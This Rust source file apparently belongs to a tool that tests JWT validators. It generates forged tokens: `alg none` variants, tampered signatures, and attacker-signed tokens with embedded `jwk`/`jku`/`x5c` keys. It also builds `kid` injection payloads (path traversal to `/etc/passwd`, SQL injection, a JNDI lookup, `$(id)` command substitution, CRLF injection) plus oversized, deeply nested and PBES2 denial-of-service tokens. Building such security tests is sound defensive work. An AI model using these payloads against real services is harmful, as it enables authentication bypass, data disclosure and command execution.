//! The form of a token: parts, alphabet, JSON, size.

use serde_json::{Value, json};

use super::mint::{self, ALGORITHMS, ATTACKER_CERTIFICATE, ATTACKER_X, Members, Mint, part, signed_by_attacker, split};
use super::{Case, Family, Site, with_token};

const NONE: Family = Family { name: "`alg` none", through: "an unsigned token is accepted" };
const UNSIGNED: Family = Family { name: "signature left out or made up", through: "the token is accepted" };
const CARRIED: Family =
    Family { name: "key carried in the token", through: "a token signed by its own `jwk`, `jku`, `x5c` is accepted" };
const KID: Family = Family { name: "odd `kid`, foreign signature", through: "the token is accepted" };
const ENCRYPTED: Family = Family { name: "JWE, `zip`, `p2c`, JSON serialisation", through: "the token is accepted" };
const PARTS: Family = Family { name: "too many or too few dots", through: "the token is accepted" };
const SPELLING: Family = Family {
    name: "second spelling of a sound token",
    through: "two texts are one token, so caches and deny lists miss",
};
const LARGE: Family = Family { name: "oversized or deeply nested", through: "the token is accepted" };

/// What needs no issuer's key. A sound token, if there is one, lends its header and claims.
pub(super) fn made_up(site: &Site) -> Vec<Case> {
    let invented = || signed_by_attacker(&joined(&mint::header(&ALGORITHMS[0]), &mint::claims(&ALGORITHMS[0])));
    let token = site.token.clone().unwrap_or_else(invented);
    let header =
        mint::members(serde_json::from_slice(&mint::decoded(token.split('.').next().unwrap()).unwrap()).unwrap());
    let claims = token.split('.').nth(1).unwrap();
    let mut cases = none(site, &header, claims, split(&token).1);
    cases.extend(unsigned(site, "the token", &token));
    cases.extend(carried(site, &header, claims));
    cases.extend(kids(site, &header, claims));
    cases.extend(encrypted(site, &header, claims));
    cases.extend(parts(site, &token));
    cases.extend(large(site, &header, claims));
    if site.token.is_some() {
        cases.extend(spellings(site, "the token", &token));
    }
    cases
}

/// What needs the issuers' keys.
pub(super) fn cases(site: &Site, mint: &Mint) -> Vec<Case> {
    let mut cases = Vec::new();
    for algorithm in &ALGORITHMS[1..] {
        let token = mint.sound(algorithm);
        cases.extend(unsigned(site, algorithm.name, &token));
        cases.extend(spellings(site, algorithm.name, &token));
    }
    let (header, claims) = (json!(mint::header(&ALGORITHMS[0])), json!(mint::claims(&ALGORITHMS[0])));
    for depth in [1000, 2500] {
        // Too deep for a library to build without a large stack, so as text.
        let deep = |text: &Value| text.to_string().replacen('{', &format!("{{\"x\":{},", nested(depth)), 1);
        let in_claims = mint.text(&ALGORITHMS[0], header.to_string(), deep(&claims));
        let in_header = mint.text(&ALGORITHMS[0], deep(&header), claims.to_string());
        cases.push(with_token(site, &LARGE, format!("signed, claims {depth} deep"), in_claims));
        cases.push(with_token(site, &LARGE, format!("signed, header {depth} deep"), in_header));
    }
    cases
}

fn joined(header: &Members, claims: &Members) -> String {
    format!("{}.{}", part(json!(header).to_string()), part(json!(claims).to_string()))
}

fn with(header: &Members, name: &str, value: Value) -> String {
    let mut header = header.clone();
    header.insert(name.to_owned(), value);
    part(Value::Object(header).to_string())
}

fn none(site: &Site, header: &Members, claims: &str, signature: &str) -> Vec<Case> {
    let mut cases = Vec::new();
    let cased = |bits: usize| -> String {
        let upper =
            |(index, letter): (usize, char)| if bits >> index & 1 == 1 { letter.to_ascii_uppercase() } else { letter };
        "none".chars().enumerate().map(upper).collect()
    };
    for name in (0..16).map(cased) {
        let header = with(header, "alg", json!(name));
        for (what, signature) in [("empty", ""), ("short", "AAAA"), ("the sound", signature)] {
            cases.push(with_token(
                site,
                &NONE,
                format!("{name}, {what} signature"),
                format!("{header}.{claims}.{signature}"),
            ));
        }
        cases.push(with_token(site, &NONE, format!("{name}, two parts"), format!("{header}.{claims}")));
    }
    let odd = json!([
        " none",
        "none ",
        "none\u{0}",
        "none\n",
        "",
        "HS0",
        "unsecured",
        null,
        false,
        0,
        [],
        {},
        ["none"],
        "nonе"
    ]);
    for value in odd.as_array().unwrap() {
        let header = with(header, "alg", value.clone());
        cases.push(with_token(site, &NONE, format!("{value}"), format!("{header}.{claims}.")));
    }
    let mut without = header.clone();
    without.remove("alg");
    let escaped = json!(without).to_string().replacen('{', "{\"alg\":\"n\\u006fne\",", 1);
    cases.push(with_token(site, &NONE, "an escaped letter", format!("{}.{claims}.", part(escaped))));
    cases.push(with_token(site, &NONE, "no alg", format!("{}.{claims}.", part(json!(without).to_string()))));
    cases.push(with_token(site, &NONE, "an empty header", format!("{}.{claims}.", part("{}"))));
    cases
}

fn unsigned(site: &Site, of: &str, token: &str) -> Vec<Case> {
    let (parts, signature) = split(token);
    let bytes = mint::decoded(signature).unwrap();
    let reversed: Vec<u8> = bytes.iter().rev().copied().collect();
    let signatures: [(&str, Vec<u8>); 9] = [
        ("zeros", vec![0; bytes.len()]),
        ("ones", vec![0xff; bytes.len()]),
        ("one byte", vec![1]),
        ("half", bytes[..bytes.len() / 2].to_vec()),
        ("twice", [&bytes[..], &bytes].concat()),
        ("a byte more", [&bytes[..], &[0]].concat()),
        ("a byte before", [&[0], &bytes[..]].concat()),
        ("backwards", reversed),
        ("other bits", bytes.iter().map(|byte| !byte).collect()),
    ];
    let mut cases: Vec<Case> = signatures
        .into_iter()
        .map(|(what, bytes)| with_token(site, &UNSIGNED, format!("{of}: {what}"), format!("{parts}.{}", part(bytes))))
        .collect();
    cases.push(with_token(site, &UNSIGNED, format!("{of}: empty"), format!("{parts}.")));
    cases.push(with_token(site, &UNSIGNED, format!("{of}: left out"), parts));
    cases
}

/// Each token is signed by the attacker, and brings the attacker's public key in some way.
fn carried(site: &Site, header: &Members, claims: &str) -> Vec<Case> {
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": ATTACKER_X, "kid": "attacker", "use": "sig", "alg": "EdDSA"});
    let nowhere = "http://127.0.0.1:9/keys";
    let carriers = [
        ("jwk", json!(jwk)),
        ("jwk", json!({"keys": [jwk]})),
        ("jwk", json!(jwk.to_string())),
        ("jku", json!(nowhere)),
        ("x5u", json!(nowhere)),
        ("x5c", json!([ATTACKER_CERTIFICATE])),
        ("x5c", json!(ATTACKER_CERTIFICATE)),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("key", json!(ATTACKER_X)),
    ];
    let mut cases = Vec::new();
    for (name, value) in carriers {
        for kid in [json!("attacker"), header.get("kid").cloned().unwrap_or(json!("ed")), Value::Null] {
            let mut header = header.clone();
            header.insert("alg".to_owned(), json!("EdDSA"));
            header.insert(name.to_owned(), value.clone());
            let with_kid = if kid.is_null() {
                header.remove("kid").is_none()
            } else {
                header.insert("kid".to_owned(), kid.clone()).is_none()
            };
            let token = signed_by_attacker(&format!("{}.{claims}", part(json!(header).to_string())));
            let name = format!("{name}, kid {kid}{}", if with_kid { " of its own" } else { "" });
            cases.push(with_token(site, &CARRIED, name, token));
        }
    }
    cases
}

fn kids(site: &Site, header: &Members, claims: &str) -> Vec<Case> {
    let kids = json!([
        "", "nobody", "../../../../../../dev/null", "..\\..\\windows\\win.ini", "/proc/self/environ",
        "file:///etc/passwd",
        "ed\u{0}", "\u{0}", "ed\r\nx-user-id: evil-canary", "' OR '1'='1", "x' UNION SELECT 'AAAA'; --",
        "${jndi:ldap://127.0.0.1:9/x}",
        "|/usr/bin/id", "$(id)", "`id`", "ed,p256", "*", ".*", "ED", " ed", "ed ", "éd", "\u{202e}de", "__proto__",
        "constructor",
        7, 0, -1, 1.5, true, false, null, [], ["ed"], {}, {"kid": "ed"}, [["ed"]], 9_007_199_254_740_993_u64,
    ]);
    let mut cases: Vec<Case> = kids
        .as_array()
        .unwrap()
        .iter()
        .map(|kid| {
            let header = with(header, "kid", kid.clone());
            with_token(site, &KID, kid.to_string(), signed_by_attacker(&format!("{header}.{claims}")))
        })
        .collect();
    for length in [257, 4096, 20_000, 64 * 1024] {
        let header = with(header, "kid", json!("k".repeat(length)));
        cases.push(with_token(
            site,
            &KID,
            format!("{length} letters"),
            signed_by_attacker(&format!("{header}.{claims}")),
        ));
    }
    let twice = json!(header).to_string().replacen('{', "{\"kid\":\"nobody\",", 1);
    cases.push(with_token(site, &KID, "twice", signed_by_attacker(&format!("{}.{claims}", part(twice)))));
    cases
}

fn encrypted(site: &Site, header: &Members, claims: &str) -> Vec<Case> {
    let bits = |length: usize| part(vec![7_u8; length]);
    let mut cases = Vec::new();
    let heads = [
        json!({"alg": "dir", "enc": "A256GCM"}),
        json!({"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "rsa"}),
        json!({"alg": "RSA1_5", "enc": "A128CBC-HS256", "kid": "rsa"}),
        json!({"alg": "ECDH-ES", "enc": "A128GCM", "epk": {"kty": "EC", "crv": "P-256", "x": "AAAA", "y": "AAAA"}}),
        json!({"alg": "PBES2-HS256+A128KW", "enc": "A128GCM", "p2s": "AAAAAAAA", "p2c": 1}),
        json!({"alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2s": "AAAAAAAA", "p2c": 2_147_483_647}),
        json!({"alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2s": "AAAAAAAA", "p2c": 1_000_000_000_000_u64}),
        json!({"alg": "dir", "enc": "A256GCM", "zip": "DEF"}),
        json!({"alg": "A128KW", "enc": "A128GCM", "cty": "JWT"}),
        json!({"alg": "none", "enc": "none"}),
    ];
    for head in &heads {
        let protected = part(head.to_string());
        let five = format!("{protected}.{}.{}.{}.{}", bits(32), bits(12), bits(64), bits(16));
        let direct = format!("{protected}..{}.{claims}.{}", bits(12), bits(16));
        let three = format!("{protected}.{claims}.{}", bits(64));
        for (what, token) in [("five parts", five), ("no key part", direct), ("three parts", three)] {
            cases.push(with_token(site, &ENCRYPTED, format!("{}, {what}", head["alg"]), token));
        }
    }
    let zipped = with(header, "zip", json!("DEF"));
    cases.push(with_token(
        site,
        &ENCRYPTED,
        "zip in a signed token",
        signed_by_attacker(&format!("{zipped}.{claims}")),
    ));
    let whole = signed_by_attacker(&format!("{}.{claims}", part(json!(header).to_string())));
    let (parts, signature) = split(&whole);
    let (protected, payload) = parts.split_once('.').unwrap();
    let flattened = json!({"protected": protected, "payload": payload, "signature": signature});
    let general = json!({"payload": payload, "signatures": [{"protected": protected, "signature": signature}]});
    let unprotected = json!({"payload": payload, "header": {"alg": "none"}, "signature": ""});
    for (what, text) in [("flattened", flattened), ("general", general), ("unprotected", unprotected)] {
        cases.push(with_token(site, &ENCRYPTED, format!("JSON, {what}"), text.to_string()));
        cases.push(with_token(site, &ENCRYPTED, format!("JSON, {what}, encoded"), part(text.to_string())));
    }
    let nested = format!("{}.{}.{}", part(json!({"alg": "EdDSA", "cty": "JWT"}).to_string()), part(&whole), signature);
    cases.push(with_token(site, &ENCRYPTED, "a token in a token", nested));
    cases
}

fn parts(site: &Site, token: &str) -> Vec<Case> {
    let (parts, signature) = split(token);
    let (header, claims) = parts.split_once('.').unwrap();
    let mut texts = vec![
        header.to_owned(),
        claims.to_owned(),
        signature.to_owned(),
        format!("{header}{claims}{signature}"),
        format!("{header}.{signature}"),
        format!("{header}..{signature}"),
        format!("{header}..{claims}.{signature}"),
        format!(".{claims}.{signature}"),
        format!("{claims}.{header}.{signature}"),
        format!("{token}.{token}"),
        format!("{token}.{signature}"),
        format!("{token}.."),
    ];
    for dots in [1, 2, 3, 4, 5, 10, 100, 1000, 7000] {
        let many = ".".repeat(dots);
        texts.extend([
            many.clone(),
            format!("{token}{many}"),
            format!("{many}{token}"),
            format!("{header}{many}{claims}.{signature}"),
        ]);
    }
    // One dot between header and claims is the token itself.
    texts.retain(|text| text != token);
    let name =
        |text: &String| format!("{} dots, {} bytes, starts {:?}", text.matches('.').count(), text.len(), &text[..1]);
    texts.iter().map(|text| with_token(site, &PARTS, name(text), text)).collect()
}

const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// The same bits with others behind them: a part whose length is no multiple of four characters
/// has bits that mean nothing (RFC 4648, section 3.5).
pub(super) fn other_tails(part: &str) -> Vec<String> {
    let unused = match part.len() % 4 {
        2 => 16,
        3 => 4,
        _ => return Vec::new(),
    };
    let (rest, last) = part.split_at(part.len() - 1);
    let value = ALPHABET.iter().position(|letter| *letter == last.as_bytes()[0]).unwrap();
    (1..unused).map(|bits| format!("{rest}{}", char::from(ALPHABET[value ^ bits]))).collect()
}

fn spellings(site: &Site, of: &str, token: &str) -> Vec<Case> {
    let parts: Vec<&str> = token.split('.').collect();
    let mut texts = Vec::new();
    for (place, part) in parts.iter().enumerate() {
        let mut put = |what: &str, text: String| {
            let mut parts = parts.clone();
            parts[place] = &text;
            texts.push((format!("{of}, part {}: {what}", place + 1), parts.join(".")));
        };
        for tail in other_tails(part) {
            put("other bits at its end", tail);
        }
        put("padding", format!("{part}{}", "=".repeat(4 - part.len() % 4)));
        put("one =", format!("{part}="));
        put("a character more", format!("{part}A"));
        put("the other alphabet", part.replace('-', "+").replace('_', "/"));
        put("an escape", format!("%{:02x}{}", part.as_bytes()[0], &part[1..]));
        for inside in ["=", " ", "\t", "~", "é", ",", "%20", "\u{feff}", "\""] {
            put(&format!("{inside:?} inside"), format!("{}{inside}{}", &part[..8], &part[8..]));
        }
        put("small letters", part.to_lowercase());
    }
    texts.push((format!("{of} in quotes"), format!("\"{token}\"")));
    texts.retain(|(_, text)| text != token);
    texts.into_iter().map(|(name, text)| with_token(site, &SPELLING, name, text)).collect()
}

fn nested(depth: usize) -> String {
    format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
}

fn large(site: &Site, header: &Members, claims: &str) -> Vec<Case> {
    let mut cases = Vec::new();
    for kilobytes in [9, 16, 24, 40, 64, 100] {
        let header = with(header, "x", json!("x".repeat(kilobytes * 768)));
        cases.push(with_token(
            site,
            &LARGE,
            format!("{kilobytes} kB"),
            signed_by_attacker(&format!("{header}.{claims}")),
        ));
    }
    for (open, close) in [("[", "]"), ("{\"a\":", "}")] {
        for depth in [100, 1000, 10_000] {
            let deep = format!("{}1{}", open.repeat(depth), close.repeat(depth));
            let head = json!(header).to_string().replacen('{', &format!("{{\"x\":{deep},"), 1);
            let name = format!("{open} {depth} deep");
            let in_header = signed_by_attacker(&format!("{}.{claims}", part(head)));
            let in_claims = signed_by_attacker(&format!("{}.{}", part(json!(header).to_string()), part(deep)));
            cases.push(with_token(site, &LARGE, format!("{name}, header"), in_header));
            cases.push(with_token(site, &LARGE, format!("{name}, claims"), in_claims));
        }
    }
    let many: Members = (0..700).map(|number| (format!("m{number}"), json!(number))).collect();
    let header = with(header, "x", json!(many));
    cases.push(with_token(site, &LARGE, "many members", signed_by_attacker(&format!("{header}.{claims}"))));
    cases
}
